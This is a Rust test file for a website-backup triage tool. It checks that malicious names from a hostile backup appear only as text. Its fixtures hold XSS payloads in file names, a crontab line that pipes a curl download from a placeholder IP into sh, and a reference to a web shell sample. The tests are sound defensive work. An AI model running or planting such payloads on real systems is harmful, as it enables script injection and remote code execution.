//! Component tests on a real page in headless Chromium: what people see, and that names from
//! a hostile backup stay text. Run with `wasm-pack test --headless --chrome`.

#![cfg(target_arch = "wasm32")]
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod support;

use std::rc::Rc;

use gloo::timers::future::TimeoutFuture;
use site_triage::bridge::protocol::ScanProgress;
use site_triage::ui::components::{drop_zone, file_table, result_screen, scanning_screen};
use site_triage::ui::state::{Action, Screen, State};
use wasm_bindgen::JsCast;
use wasm_bindgen_test::*;
use web_sys::{Element, HtmlElement, HtmlInputElement};
use yew::{Callback, Reducible};

wasm_bindgen_test_configure!(run_in_browser);

fn mount() -> Element {
    let doc = gloo::utils::document();
    let div = doc.create_element("div").unwrap();
    doc.body().unwrap().append_child(&div).unwrap();
    div
}

async fn settle() {
    TimeoutFuture::new(30).await;
}

fn hostile_report() -> site_triage::engine::Report {
    let bytes = support::zip_files(&[
        (
            "public_html/<img src=x onerror=\"document.title='pwned'\">.php",
            b"<?php",
        ),
        (
            "public_html/wp-content/uploads/<script>document.title='pwned'</script>.php",
            b"<?php",
        ),
        ("public_html/invoice\u{202e}gpj.php", b"x"),
        (
            "public_html/wp-includes/version.php",
            b"<?php $wp_version = '<b>6.4</b>';",
        ),
        (
            "public_html/wp-content/plugins/x/x.php",
            b"<?php /* Plugin Name: <img src=y onerror=alert(1)>\nVersion: 1 */",
        ),
    ]);
    support::scan(&bytes).unwrap()
}

/// The result screen of `report`, mounted and rendered.
async fn result_screen_of(report: site_triage::engine::Report) -> Element {
    let root = mount();
    yew::Renderer::<result_screen::ResultScreen>::with_root_and_props(
        root.clone(),
        result_screen::Props {
            report: Rc::new(report).into(),
            on_reset: Callback::noop(),
            diffs: Default::default(),
            on_diff: Callback::noop(),
            host: None,
            series: Vec::new(),
            on_show: Callback::noop(),
            on_add: Callback::noop(),
            worker_ready: true,
        },
    )
    .render();
    settle().await;
    root
}

#[wasm_bindgen_test]
async fn result_screen_renders_hostile_names_as_text_only() {
    let root = result_screen_of(hostile_report()).await;
    assert_eq!(
        root.query_selector_all("img, script, iframe")
            .unwrap()
            .length(),
        0,
        "no element from a file name"
    );
    let text = root.text_content().unwrap();
    assert!(text.contains("<img src=x onerror="), "{text}");
    assert!(text.contains("<script>document.title='pwned'</script>"));
    assert_ne!(gloo::utils::document().title(), "pwned");
    // The verdict comes first and says what it is.
    let h1 = root.query_selector("h1").unwrap().unwrap();
    assert_eq!(h1.text_content().unwrap(), "Suspicious changes found");
}

/// A cPanel full backup whose crontab, key label and forwarder carry markup: the account's
/// sections show them as text.
#[wasm_bindgen_test]
async fn hosting_account_sections_render_hostile_values_as_text() {
    let b = "backup-8.1.2024_03-00-00_jane/";
    let files: Vec<(String, Vec<u8>)> = vec![
        (format!("{b}version"), b"archive version: 4\n".to_vec()),
        (format!("{b}cron/jane"), b"*/15 * * * * php /home/jane/public_html/wp-cron.php\n*/5 * * * * curl -s http://198.51.100.7/<img src=x onerror=alert(1)> | sh\n".to_vec()),
        (format!("{b}homedir/.ssh/authorized_keys"), b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA <script>document.title='pwned'</script>\n".to_vec()),
        (format!("{b}va/example.com"), b"info@example.com: |/home/jane/<b>x</b>.php\n".to_vec()),
        (format!("{b}homedir/public_html/index.php"), b"<?php echo 1;\n".to_vec()),
    ];
    let bytes = support::tar(&support::borrowed(&files), true);
    let report = support::scan(&bytes).unwrap();
    assert!(report.account.is_some());
    let root = result_screen_of(report).await;
    assert_eq!(
        root.query_selector_all("img, script, b").unwrap().length(),
        0
    );
    for id in [
        "account-sites",
        "account-cron",
        "account-keys",
        "account-forwarders",
    ] {
        assert!(
            root.query_selector(&format!("#{id}")).unwrap().is_some(),
            "no {id}"
        );
    }
    let cron = root
        .query_selector("section.cron")
        .unwrap()
        .unwrap()
        .text_content()
        .unwrap();
    assert!(cron.contains("every 15 minutes"), "{cron}");
    assert!(cron.contains("<img src=x onerror=alert(1)>"), "{cron}");
    assert!(root
        .query_selector("section.cron li.malicious")
        .unwrap()
        .is_some());
    assert_ne!(gloo::utils::document().title(), "pwned");
}

#[wasm_bindgen_test]
async fn file_table_filters_and_sorts() {
    let mut files: Vec<(String, Vec<u8>)> = (0..450)
        .map(|i| (format!("public_html/dir/file-{i:03}.txt"), vec![b'x'; i]))
        .collect();
    files.push((
        "public_html/wp-content/uploads/evil.php".into(),
        b"<?php".to_vec(),
    ));
    let refs = support::borrowed(&files);
    let report = Rc::new(support::scan(&support::zip_files(&refs)).unwrap());
    let root = mount();
    yew::Renderer::<file_table::FileTable>::with_root_and_props(
        root.clone(),
        file_table::Props {
            report: report.into(),
        },
    )
    .render();
    settle().await;
    let rows = || root.query_selector_all("tbody tr").unwrap().length();
    assert_eq!(rows(), 200, "first page only");
    // Sorted by verdict: the suspicious file comes first.
    let first = root
        .query_selector("tbody tr td")
        .unwrap()
        .unwrap()
        .text_content()
        .unwrap();
    assert!(first.contains("evil.php"), "{first}");
    let input: HtmlInputElement = root
        .query_selector("input[type=search]")
        .unwrap()
        .unwrap()
        .dyn_into()
        .unwrap();
    input.set_value("file-04");
    input
        .dispatch_event(&web_sys::InputEvent::new("input").unwrap())
        .unwrap();
    settle().await;
    assert_eq!(rows(), 10);
    // "Show more" reveals the next page.
    input.set_value("");
    input
        .dispatch_event(&web_sys::InputEvent::new("input").unwrap())
        .unwrap();
    settle().await;
    let more: HtmlElement = root
        .query_selector(".file-table > button")
        .unwrap()
        .unwrap()
        .dyn_into()
        .unwrap();
    more.click();
    settle().await;
    assert_eq!(rows(), 400);
}

#[wasm_bindgen_test]
async fn drop_zone_is_a_labelled_file_input() {
    let root = mount();
    yew::Renderer::<drop_zone::DropZone>::with_root_and_props(
        root.clone(),
        drop_zone::Props {
            id: "t-input".into(),
            title: "Drop".into(),
            hint: "Hint text".into(),
            multiple: false,
            primary: true,
            disabled: false,
            on_files: Callback::noop(),
        },
    )
    .render();
    settle().await;
    let input = root
        .query_selector("input#t-input[type=file]")
        .unwrap()
        .unwrap();
    assert_eq!(
        input.get_attribute("aria-describedby").as_deref(),
        Some("t-input-hint")
    );
    let label = root.query_selector("label[for=t-input]").unwrap().unwrap();
    assert!(label.text_content().unwrap().contains("Drop"));
}

#[wasm_bindgen_test]
async fn scanning_screen_shows_progress_and_cancels() {
    let root = mount();
    let cancelled = Rc::new(std::cell::Cell::new(false));
    let flag = cancelled.clone();
    yew::Renderer::<scanning_screen::ScanningScreen>::with_root_and_props(
        root.clone(),
        scanning_screen::Props {
            name: "backup.zip".into(),
            bytes_total: 1000,
            started_ms: js_sys::Date::now() - 5000.0,
            progress: Some(ScanProgress {
                entries_done: 10,
                entries_total: Some(40),
                bytes_done: 250,
                bytes_total: 1000,
                current: "<b>a.php</b>".into(),
                ..Default::default()
            }),
            phase: None,
            on_cancel: Callback::from(move |_| flag.set(true)),
            position: Some((2, 3)),
        },
    )
    .render();
    settle().await;
    let progress = root.query_selector("progress").unwrap().unwrap();
    assert_eq!(progress.get_attribute("value").as_deref(), Some("250"));
    assert_eq!(
        root.query_selector(".position")
            .unwrap()
            .unwrap()
            .text_content()
            .as_deref(),
        Some("Backup 2 of 3")
    );
    let text = root.text_content().unwrap();
    assert!(text.contains("10 of 40 files"), "{text}");
    assert!(text.contains("<b>a.php</b>"));
    assert!(text.contains("about 15 seconds"), "{text}");
    let button: HtmlElement = root
        .query_selector("button")
        .unwrap()
        .unwrap()
        .dyn_into()
        .unwrap();
    button.click();
    assert!(cancelled.get());
}

#[wasm_bindgen_test]
fn reducer_follows_a_scan() {
    let s = Rc::new(State::default());
    let s = s.reduce(Action::WorkerReady);
    let s = s.reduce(Action::Begin {
        name: "b.zip".into(),
        bytes_total: 10,
        now_ms: 0.0,
    });
    let s = s.reduce(Action::Progress(ScanProgress {
        bytes_done: 5,
        ..Default::default()
    }));
    assert!(matches!(&s.screen, Screen::Scanning { progress: Some(p), .. } if p.bytes_done == 5));
    let report = Rc::new(hostile_report());
    let s = s.reduce(Action::Finished(report.clone()));
    assert!(matches!(&s.screen, Screen::Result(r) if Rc::ptr_eq(r, &report)));
    // A late progress message cannot pull the result screen back.
    let s = s.reduce(Action::Progress(ScanProgress::default()));
    assert!(matches!(s.screen, Screen::Result(_)));
    let s = s.reduce(Action::Begin {
        name: "c.zip".into(),
        bytes_total: 10,
        now_ms: 0.0,
    });
    let s = s.reduce(Action::Cancelled);
    assert_eq!(s.screen, Screen::Start);
    assert!(s.notice.as_deref().unwrap().contains("cancelled"));
    assert!(!s.worker_ready, "a fresh worker must say it is ready first");
    let s = s.reduce(Action::Failed {
        kind: site_triage::engine::report::ErrorKind::NotAnArchive,
        message: "m".into(),
    });
    assert!(
        matches!(&s.screen, Screen::Error { title, .. } if title == "This is not a backup archive")
    );
    // The language and the release archives live in the reducer too.
    let s = s.reduce(Action::Lang(site_triage::engine::i18n::Lang::Nb));
    assert_eq!(s.lang, site_triage::engine::i18n::Lang::Nb);
    let parts = js_sys::Array::of1(&js_sys::Uint8Array::from(&b"PK"[..]));
    let release = web_sys::File::new_with_u8_array_sequence(&parts, "wordpress-6.4.zip").unwrap();
    let s = s.reduce(Action::References(vec![release]));
    assert_eq!(
        s.references
            .iter()
            .map(web_sys::File::name)
            .collect::<Vec<_>>(),
        ["wordpress-6.4.zip"]
    );
}

/// Two backups on the result screen: the comparison comes first (which one to restore, the
/// backups by date with a button for each report, what changed), names from the backups are
/// text only, and choosing a backup asks for its report.
#[wasm_bindgen_test]
async fn result_screen_compares_several_backups() {
    use site_triage::ui::state::{Done, ReportRef};
    let page: &[(&str, &[u8])] = &[
        ("public_html/index.html", b"<html>home</html>"),
        ("public_html/about.html", b"<html>about</html>"),
    ];
    let clean = support::scan_with(&support::zip_files(page), "site-2026-06-01.zip", &[]).unwrap();
    let shell: &[u8] = include_bytes!("data/malware/chopper.php");
    let mut files = page.to_vec();
    files.push((
        "public_html/wp-content/uploads/<img src=x onerror=alert(1)>.php",
        shell,
    ));
    let hacked = support::scan_with(
        &support::zip_files(&files),
        "site-2026-06-08 <b>x</b>.zip",
        &[],
    )
    .unwrap();
    let hacked = Rc::new(hacked);
    let chosen = Rc::new(std::cell::Cell::new(None));
    let flag = chosen.clone();
    let root = mount();
    yew::Renderer::<result_screen::ResultScreen>::with_root_and_props(
        root.clone(),
        result_screen::Props {
            report: ReportRef(hacked.clone()),
            on_reset: Callback::noop(),
            diffs: Default::default(),
            on_diff: Callback::noop(),
            host: None,
            series: vec![
                Done::Scanned(ReportRef(hacked)),
                Done::Scanned(ReportRef(Rc::new(clean))),
            ],
            on_show: Callback::from(move |i| flag.set(Some(i))),
            on_add: Callback::noop(),
            worker_ready: true,
        },
    )
    .render();
    settle().await;
    let text = root.text_content().unwrap();
    let restore = text
        .find("Restore site-2026-06-01.zip (made 2026-06-01)")
        .expect("restore advice");
    let verdict = text.find("This site has been hacked").expect("the report");
    assert!(restore < verdict, "the comparison comes first");
    assert!(text.contains(
        "New malicious file: public_html/wp-content/uploads/<img src=x onerror=alert(1)>.php"
    ));
    assert_eq!(
        root.query_selector_all("img, script, b").unwrap().length(),
        0
    );
    let buttons = root
        .query_selector_all(".comparison .backups button")
        .unwrap();
    assert_eq!(buttons.length(), 2);
    // Oldest first: the clean backup (given second) is the first row.
    let first: web_sys::HtmlElement = buttons.item(0).unwrap().dyn_into().unwrap();
    assert_eq!(
        first.get_attribute("aria-pressed").as_deref(),
        Some("false")
    );
    first.click();
    assert_eq!(chosen.get(), Some(1));
    assert!(root
        .query_selector("#add-backup-input[multiple]")
        .unwrap()
        .is_some());
}

/// The reducer reads a series one backup after another, keeps each report, lets a failed
/// one be a row of the series, and a reset forgets them all.
#[wasm_bindgen_test]
fn reducer_reads_a_series() {
    use site_triage::ui::state::Done;
    let parts = js_sys::Array::of1(&js_sys::Uint8Array::from(&b"PK"[..]));
    let file = |n: &str| web_sys::File::new_with_u8_array_sequence(&parts, n).unwrap();
    let begin = |s: Rc<State>, name: &str| {
        s.reduce(Action::Begin {
            name: name.into(),
            bytes_total: 2,
            now_ms: 0.0,
        })
    };
    let s = Rc::new(State::default()).reduce(Action::WorkerReady);
    let s = s.reduce(Action::Series(vec![file("b.zip"), file("c.zip")]));
    let s = begin(s, "a.zip");
    let s = s.reduce(Action::Finished(Rc::new(hostile_report())));
    assert!(s.next_pending && matches!(s.screen, Screen::Scanning { .. }));
    let s = begin(s, "b.zip");
    assert!(!s.next_pending);
    assert_eq!(
        s.queue.iter().map(web_sys::File::name).collect::<Vec<_>>(),
        ["c.zip"]
    );
    let s = s.reduce(Action::Failed {
        kind: site_triage::engine::report::ErrorKind::Corrupt,
        message: "damaged".into(),
    });
    assert!(matches!(&s.series[1], Done::Failed { name, .. } if name == "b.zip"));
    assert!(s.next_pending, "a damaged backup does not stop the series");
    let s = begin(s, "c.zip");
    let last = Rc::new(hostile_report());
    let s = s.reduce(Action::Finished(last.clone()));
    assert!(matches!(&s.screen, Screen::Result(r) if Rc::ptr_eq(r, &last)));
    assert_eq!(s.series.len(), 3);
    let s = s.reduce(Action::Show(0));
    assert!(matches!(&s.screen, Screen::Result(r) if !Rc::ptr_eq(r, &last)));
    let s = s.reduce(Action::Add(vec![file("d.zip")]));
    assert!(s.next_pending && s.queue.len() == 1);
    let s = s.reduce(Action::Reset);
    assert!(s.series.is_empty() && s.queue.is_empty() && !s.next_pending);
}
